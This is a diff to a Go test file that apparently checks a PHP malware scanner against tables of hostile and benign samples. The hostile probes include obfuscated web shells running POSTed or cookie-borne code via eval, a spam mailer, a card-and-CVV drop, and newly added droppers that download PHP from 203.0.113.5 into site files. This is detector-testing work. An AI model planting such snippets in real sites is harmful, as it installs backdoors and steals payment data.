@@ -82,6 +82,10 @@ var probes = []struct{ name, rule, src string }{
 		$GLOBALS[$GLOBALS['t'][5].$GLOBALS['t'][6]]($_POST['c']);`},
 	{"xor decoder of a cookie", "php.exec-input", `<?php function x($s, $k) { $r = ""; for ($i = 0; $i < strlen($s); $i++) { $r .= chr(ord($s[$i]) ^ ord($k[$i % strlen($k)])); } return $r; }
 		$q = NULL; foreach ($_COOKIE as $n => $v) { $q = $v; } $q = @unserialize(x(base64_decode($q), $n)); if (isset($q['k'])) { eval($q['d']); }`},
+	{"remote dropper", "php.remote-dropper", `<?php function fetch($url, $file = "") { $file = empty($file) ? pathinfo($url, PATHINFO_BASENAME) : $file;
+		$ch = curl_init(); curl_setopt($ch, CURLOPT_URL, $url); curl_setopt($ch, CURLOPT_RETURNTRANSFER, 1); file_put_contents($file, curl_exec($ch)); }
+		fetch("http://203.0.113.5/themes/t.php");`},
+	{"remote copy", "php.remote-dropper", `<?php copy("http://203.0.113.5/x.txt", "../cache/index.php");`},
 	{"spam mailer", "php.mailer", `<?php $to = explode("\n", $_POST['emails']); $h = "From: " . $_POST['from'] . "\r\n";
 		for ($i = 0; $i < count($to); $i++) { mail($to[$i], $_POST['subject'], stripslashes($_POST['body']), $h); }`},
 	{"concealed drop", "php.mail-drop", `<?php $m = "Card: " . $_POST['cc'] . " CVV: " . $_POST['cvv'];
@@ -116,6 +120,8 @@ var benign = []struct{ name, src string }{
 		if (!empty($_POST['copy'])) { mail($_POST['email'], $_POST['s'], $_POST['m'], $h); }`},
 	{"configured recipient", `<?php $cfg = parse_ini_file('config.ini'); mail($cfg['admin'], 'Report', $body);`},
 	{"split literal address", `<?php mail('webmaster@' . 'example.com', 'Cron done', 'ok');`},
+	{"feed cache", `<?php $xml = file_get_contents("https://example.com/feed.xml"); file_put_contents("cache/feed.xml", $xml);`},
+	{"downloaded archive", `<?php copy("https://downloads.example.com/plugin.zip", "/tmp/plugin.zip"); $z = new ZipArchive(); $z->open("/tmp/plugin.zip");`},
 }
 
 func TestProbes(t *testing.T) {
